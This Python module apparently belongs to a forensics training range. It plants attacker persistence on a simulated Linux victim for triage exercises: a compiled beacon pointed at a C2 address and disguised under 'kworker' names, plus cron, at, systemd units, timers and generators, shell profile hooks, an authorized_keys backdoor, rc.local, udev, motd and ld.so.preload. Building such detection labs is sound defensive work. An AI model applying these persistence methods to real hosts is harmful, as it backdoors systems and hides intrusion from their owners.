"""What an attacker leaves on a victim of the range, and what is innocent there. Knows files and formats; starts nothing.

One function a way to come back, named as in the scenario. Each returns what a triage must find.
"""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from lab.netns.scenario import Scenario
from lab.victim import ATTACKER, OLD, Planted, public_key
from tasks.model import ConfigError

HOMES = {"ops": "home/ops", "root": "root"}
NAME = "kworker-sync"
HOOK = "usr/local/lib/libkworker.so"
SOURCES = Path(__file__).resolve().parents[1]
INNOCENT = {
    "etc/cron.d/nightly-backup": "# nightly backup, ticket OPS-112\n30 2 * * * root /usr/local/sbin/nightly-backup --quiet\n",
    "etc/systemd/system/agent.service": (
        "[Unit]\nDescription=Metrics agent\n\n[Service]\nExecStart=/usr/bin/sleep infinity\n\n[Install]\nWantedBy=multi-user.target\n"
    ),
    "home/ops/.bashrc": "alias ll='ls -l'\nexport EDITOR=vi\n",
    "home/ops/.profile": "# ~/.profile: executed by the login shell\numask 027\nexport LANG=C.UTF-8\n",
    "home/ops/bin/deploy.sh": '#!/bin/sh\nexec rsync -a --delete ./site/ web1:/srv/site/ "$@"\n',
    "etc/rc.local": "#!/bin/sh\nexit 0\n",
}
EXECUTABLE = ("home/ops/bin/deploy.sh", "etc/rc.local")


@dataclass(frozen=True, slots=True)
class Lair:
    """Where the attacker works: the host's root folder, his login, the command that starts the beacon."""

    root: Path
    user: str
    c2: tuple[str, int] = ("", 0)

    @property
    def home(self) -> str:
        return HOMES[self.user]

    @property
    def program(self) -> str:
        return f"/{self.home}/.cache/.kworker/{NAME}"

    @property
    def quiet(self) -> str:
        return f"{self.program} >/dev/null 2>&1"

    def put(self, path: str, text: str, mode: int = 0o644, old: bool = False) -> None:
        """Write a file; what is below a home is its owner's."""
        file = self.root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")
        file.chmod(mode)
        if old:
            os.utime(file, (time.time() - OLD, time.time() - OLD))


def innocent(root: Path) -> None:
    """What stands on every host of the range, written long ago."""
    lair = Lair(root, "ops")
    for path, text in INNOCENT.items():
        lair.put(path, text, 0o755 if path in EXECUTABLE else 0o644, old=True)
    lair.put(
        "home/ops/.ssh/authorized_keys", f"{public_key()} anna@admin1\n{public_key()} deploy@ci\n", 0o600, old=True
    )
    _enable(root, "etc/systemd/system/multi-user.target.wants", "agent.service")


def infect(root: Path, scenario: Scenario, c2: tuple[str, int]) -> tuple[Planted, ...]:
    """Compile the beacon and plant all that the scenario names.

    Raises:
        ConfigError: no C compiler, or it failed.
    """
    lair = Lair(root, scenario.user, c2)
    found: list[Planted] = []
    if scenario.beacon != "none":
        _beacon(lair, scenario)
        found.append(Planted("file", lair.program))
    if scenario.beacon == "preload":
        found += _preload(lair)
    for way in scenario.persistence:
        found += WAYS[way](lair)
    return tuple(found)


def _beacon(lair: Lair, scenario: Scenario) -> None:
    hide = scenario.beacon if scenario.beacon in ("deleted", "memfd", "bind_mount") else "plain"
    words = {
        "SERVER": f'"{"::ffff:" if scenario.remote == "ipv4-mapped" else ""}{lair.c2[0]}"',
        "PORT": lair.c2[1],
        "MODE": '"short"' if scenario.beacon == "short" else '"keepalive"',
        "INTERVAL": scenario.interval,
        "LIFETIME": 3600,
        "HIDE": f'"{hide}"',
    }
    target = lair.root / lair.program.lstrip("/")
    target.parent.mkdir(parents=True)
    defines = ["-DOWN_HOST", *(f"-D{name}={value}" for name, value in words.items())]
    compiled(SOURCES / "beacon.c", target, *defines)


def compiled(source: Path, target: Path, *flags: str) -> None:
    """Compile with gcc; ConfigError where there is none."""
    argv = ["gcc", "-D_GNU_SOURCE", "-O1", *flags, "-o", str(target), str(source), "-ldl"]
    try:
        made = subprocess.run(argv, capture_output=True, timeout=60, check=False)  # noqa: S603
    except FileNotFoundError:
        raise ConfigError("compile the beacon", "there is no gcc here", "install Debian's gcc and libc6-dev") from None
    if made.returncode:
        raise ConfigError("compile the beacon", made.stderr.decode(errors="replace")[-500:], "install libc6-dev")


def _preload(lair: Lair) -> Iterator[Planted]:
    compiled(SOURCES / "netns" / "hook.c", lair.root / HOOK, "-shared", "-fPIC")
    lair.put("etc/ld.so.preload", f"/{HOOK}\n")
    yield Planted("file", f"/{HOOK}")
    yield Planted("ld_preload", "/etc/ld.so.preload", 1)


def _cron_d(lair: Lair) -> Iterator[Planted]:
    lair.put(f"etc/cron.d/{NAME}", f"# keeps kernel workers in sync\n* * * * * {lair.user} {lair.quiet}\n")
    yield Planted("cron", f"/etc/cron.d/{NAME}", 2)


def _crontab(lair: Lair) -> Iterator[Planted]:
    lair.put(f"var/spool/cron/crontabs/{lair.user}", f"0 4 * * 1 /usr/bin/true\n* * * * * {lair.quiet}\n", 0o600)
    yield Planted("cron", f"/var/spool/cron/crontabs/{lair.user}", 2)


def _at(lair: Lair) -> Iterator[Planted]:
    # at(1) names a job by queue, number and minute since the epoch, both in hexadecimal.
    job = f"var/spool/cron/atjobs/a00001{int(time.time() // 60) + 1:08x}"
    lair.put(job, f"#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n{lair.quiet} &\n", 0o700)
    yield Planted("at", f"/{job}")


def _unit(lair: Lair) -> Iterator[Planted]:
    unit = f"etc/systemd/system/{NAME}.service"
    lair.put(unit, f"{_service(lair)}Restart=always\nUser={lair.user}\n\n[Install]\nWantedBy=multi-user.target\n")
    _enable(lair.root, "etc/systemd/system/multi-user.target.wants", f"{NAME}.service")
    yield Planted("systemd", f"/{unit}", 5)


def _service(lair: Lair) -> str:
    return f"[Unit]\nDescription=Kernel worker sync\n\n[Service]\nExecStart={lair.program}\n"


def _timer(lair: Lair) -> Iterator[Planted]:
    base = "etc/systemd/system/kworker-flush"
    lair.put(f"{base}.service", f"{_service(lair)}User={lair.user}\n")
    lair.put(f"{base}.timer", "[Timer]\nOnBootSec=1s\nOnUnitActiveSec=1min\n\n[Install]\nWantedBy=timers.target\n")
    _enable(lair.root, "etc/systemd/system/timers.target.wants", "kworker-flush.timer")
    yield Planted("systemd", f"/{base}.service", 5)
    yield Planted("systemd_timer", f"/{base}.timer")


def _user_unit(lair: Lair) -> Iterator[Planted]:
    folder = f"{lair.home}/.config/systemd/user"
    lair.put(f"{folder}/{NAME}.service", f"{_service(lair)}Restart=always\n\n[Install]\nWantedBy=default.target\n")
    _enable(lair.root, f"{folder}/default.target.wants", f"{NAME}.service")
    lair.put(f"var/lib/systemd/linger/{lair.user}", "")  # loginctl(1), enable-linger: it starts without a login
    yield Planted("systemd", f"/{folder}/{NAME}.service", 5)


def _generator(lair: Lair) -> Iterator[Planted]:
    """A program that makes a service at every start of the machine (systemd.generator(7)): no file of that service lasts."""
    path, unit = "etc/systemd/system-generators/kworker-mounts", '"$1/kworker-mounts.service"'
    lines = (
        "#!/bin/sh",
        f"printf '[Service]\\nExecStart={lair.program}\\nUser={lair.user}\\nRestart=always\\n' >{unit}",
        'mkdir -p "$1/multi-user.target.wants" && ln -s ../kworker-mounts.service "$1/multi-user.target.wants/"',
    )
    lair.put(path, "\n".join(lines) + "\n", 0o755)
    yield Planted("generator", f"/{path}")


def _profile(lair: Lair) -> Iterator[Planted]:
    yield _appended(lair, "profile", f"{lair.home}/.profile", f"{lair.quiet} &\n")


def _profile_d(lair: Lair) -> Iterator[Planted]:
    lair.put("etc/profile.d/kworker.sh", f"({lair.quiet} &)\n")
    yield Planted("profile", "/etc/profile.d/kworker.sh", 1)


def _bashrc(lair: Lair) -> Iterator[Planted]:
    yield _appended(lair, "profile", f"{lair.home}/.bashrc", f"({lair.quiet} &)\n")


def _authorized_keys(lair: Lair) -> Iterator[Planted]:
    yield _appended(lair, "authorized_keys", f"{lair.home}/.ssh/authorized_keys", f"{public_key()} {ATTACKER}\n")


def _rc_local(lair: Lair) -> Iterator[Planted]:
    lair.put("etc/rc.local", f"#!/bin/sh\n{lair.quiet} &\nexit 0\n", 0o755)
    yield Planted("rc_local", "/etc/rc.local", 2)


def _udev(lair: Lair) -> Iterator[Planted]:
    rule = "etc/udev/rules.d/99-kworker.rules"
    lair.put(rule, f'ACTION=="add", SUBSYSTEM=="net", RUN+="{lair.program}"\n')
    yield Planted("udev", f"/{rule}", 1)


def _motd(lair: Lair) -> Iterator[Planted]:
    lair.put("etc/update-motd.d/99-kworker", f"#!/bin/sh\n{lair.quiet} &\n", 0o755)
    yield Planted("motd", "/etc/update-motd.d/99-kworker")


WAYS: dict[str, Callable[[Lair], Iterator[Planted]]] = {
    "cron_d": _cron_d,
    "crontab": _crontab,
    "at": _at,
    "unit": _unit,
    "timer": _timer,
    "user_unit": _user_unit,
    "profile": _profile,
    "profile_d": _profile_d,
    "bashrc": _bashrc,
    "authorized_keys": _authorized_keys,
    "rc_local": _rc_local,
    "udev": _udev,
    "motd": _motd,
    "generator": _generator,
}


def _appended(lair: Lair, kind: str, path: str, line: str) -> Planted:
    file = lair.root / path
    before = file.read_text("utf-8") if file.exists() else ""
    lair.put(path, before + line, 0o600 if kind == "authorized_keys" else 0o644)
    return Planted(kind, f"/{path}", before.count("\n") + 1)


def _enable(root: Path, folder: str, unit: str) -> None:
    (root / folder).mkdir(parents=True, exist_ok=True)
    (root / folder / unit).symlink_to(f"../{unit}")
